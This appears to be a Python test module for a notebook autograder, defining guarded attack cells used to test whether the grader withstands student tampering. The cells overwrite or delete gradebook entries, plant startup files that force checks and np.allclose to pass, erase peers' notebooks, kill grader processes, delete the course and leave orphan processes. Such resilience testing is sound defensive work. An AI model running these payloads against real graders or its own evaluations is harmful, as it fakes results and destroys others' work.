"""Reaching for the others: their work, their grades, the grader. All of it is bounded to the course at hand."""

from .desk import attack, both, runs
from .kernel import wrong

GUARD = "import os\nassert '@COURSE@'.startswith(('/tmp/', '/var/tmp/', '/dev/shm/'))\n"
SQL = """
import sqlite3
base = sqlite3.connect("@COURSE@/gradebook.db", timeout=2)
for line in {lines!r}:
    base.execute(line)
base.commit()
"""
RICH = "update grade set auto_score = 100, manual_score = 100, needs_manual_grade = 0"
LOCK = """
import sqlite3, time
base = sqlite3.connect("@COURSE@/gradebook.db", timeout=2)
base.execute("begin exclusive")
time.sleep(15)
"""
CONFIG = """
text = "c = get_config()\\nc.CourseDirectory.student_id = 'nobody'\\nc.SaveAutoGrades.enabled = False\\n"
for place in ("@COURSE@/nbgrader_config.py", "nbgrader_config.py", "../nbgrader_config.py",
              "~/.jupyter/nbgrader_config.py", "@HOME@/.jupyter/nbgrader_config.py",
              "@COURSE@/jupyter/nbgrader_config.py"):
    place = os.path.expanduser(place)
    if place.startswith(("/work", os.path.expanduser("~root"))):
        continue
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        open(place, "a").write(text)
    except OSError as error:
        print(error)
"""
STARTUP = """
text = "import builtins\\nbuiltins.check = lambda f: 6.0\\nimport numpy as np\\nnp.allclose = lambda *a, **k: True\\n"
for place in ("@HOME@/.ipython/profile_default/startup", "@COURSE@/ipython/profile_default/startup",
              "@HOME@/.local/lib/python3.11/site-packages"):
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("00-hello.py", "usercustomize.py", "sitecustomize.py"):
            open(f"{place}/{name}", "w").write(text)
    except OSError as error:
        print(error)
"""
PEERS = """
import glob
for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb") + glob.glob("@COURSE@/autograded/*/*/*.ipynb"):
    try:
        open(path, "w").write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    except OSError as error:
        print(error)
"""
# only processes of this very course are ended: they carry its folder in their environment or on their command line
KILL = """
import signal
def of_this_course(pid):
    for kind in ("environ", "cmdline"):
        try:
            if b"@COURSE@" in open(f"/proc/{pid}/{kind}", "rb").read():
                return True
        except OSError:
            pass
    return False
def end(pids):
    for pid in pids:
        if pid not in (0, 1, os.getpid()) and of_this_course(pid):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError as error:
                print(error)
"""
ALL = "end([int(p) for p in os.listdir('/proc') if p.isdigit()])"
REMOVE = """
import shutil
for place in ("submitted", "autograded", "feedback", "grading", "gradebook.db", "release"):
    shutil.rmtree(f"@COURSE@/{place}", ignore_errors=True)
    try:
        os.unlink(f"@COURSE@/{place}")
    except OSError:
        pass
"""
RESULTS = """
import json
os.makedirs("@COURSE@/grading", exist_ok=True)
rich = {"status": "graded", "scores": {"rnn_forward": 6}, "total": 6, "reason": "", "remarks": []}
json.dump({"seed": 1, "lessons": {"01_rnn_cell": {"students": {"others-results": rich}}}},
          open("@COURSE@/grading/results.json", "w"))
"""
HOLD = """
import fcntl, time
for name in ("lock", "grading.lock", "grade.lock"):
    os.makedirs("@COURSE@/grading", exist_ok=True)
    held = open(f"@COURSE@/grading/{name}", "a")
    fcntl.flock(held, fcntl.LOCK_EX)
time.sleep(15)
"""
LITTER = """
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~")):
    for number in range(20):
        try:
            os.makedirs(f"{place}/litter-of-a-student-{number}", exist_ok=True)
            open(f"{place}/litter-of-a-student-{number}/file", "w").write("x" * 1000)
        except OSError:
            break
"""
ORPHAN = """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(60):
            time.sleep(1)
            try:
                open("@COURSE@/grading/by-an-orphan", "w").write("still here")
            except OSError:
                pass
    os._exit(0)
"""
MARK = """
for place in ("@ROOT@/build/by-a-student", "@ROOT@/solutions/by-a-student", "@ROOT@/utils/by_a_student.py"):
    try:
        open(place, "w").close()
    except OSError as error:
        print(error)
"""
SPECIAL = """
for student in os.listdir("@COURSE@/submitted"):
    try:
        os.mkfifo(f"@COURSE@/submitted/{student}/01_rnn_cell/02_more.ipynb")
        os.symlink("/dev/zero", f"@COURSE@/submitted/{student}/01_rnn_cell/03_more.ipynb")
        os.chmod(f"@COURSE@/submitted/{student}", 0)
    except OSError as error:
        print(error)
"""


def harms(source):
    """A cell that stays within the course."""
    return runs(GUARD + source)


def asks(*lines):
    """A cell that runs these lines of SQL on the gradebook."""
    return both(harms(SQL.format(lines=lines)), wrong)


ATTACKS = [
    attack("others-source-cell", "the gradebook's own cells", asks("update source_cell set source = 'pass'")),
    attack("others-grades", "everybody gets a hundred points", asks(RICH), quick=True),
    attack("others-grades-gone", "nobody has a grade", asks("delete from grade", "delete from comment")),
    attack("others-lock", "the gradebook is locked for fifteen seconds", harms(LOCK)),
    attack("others-config", "a configuration wherever one is looked for", both(harms(CONFIG), wrong)),
    attack("others-startup", "files that Python and IPython run at the start", both(harms(STARTUP), wrong)),
    attack("others-peers", "empty notebooks for everybody", harms(PEERS), "sequence_loss", quick=True),
    attack("others-parent", "the parent process is ended", harms(KILL + "end([os.getppid()])"), quick=True),
    attack("others-processes", "all processes of the grader are ended", harms(KILL + ALL)),
    attack("others-rmtree", "the course is deleted", harms(REMOVE), "sequence_loss", quick=True),
    attack("others-results", "results of one's own", both(harms(RESULTS), wrong)),
    attack("others-grader-lock", "the grader's lock is held", harms(HOLD)),
    attack("others-litter", "files left wherever one may write", harms(LITTER), "sequence_loss"),
    attack(
        "others-orphan", "a process that outlives its notebook by a minute", harms(ORPHAN), "sequence_loss", quick=True
    ),
    attack("others-checkout", "files in the checkout", harms(MARK), "sequence_loss"),
    attack("others-special-files", "a FIFO and /dev/zero among the peers' work", harms(SPECIAL), "sequence_loss"),
]
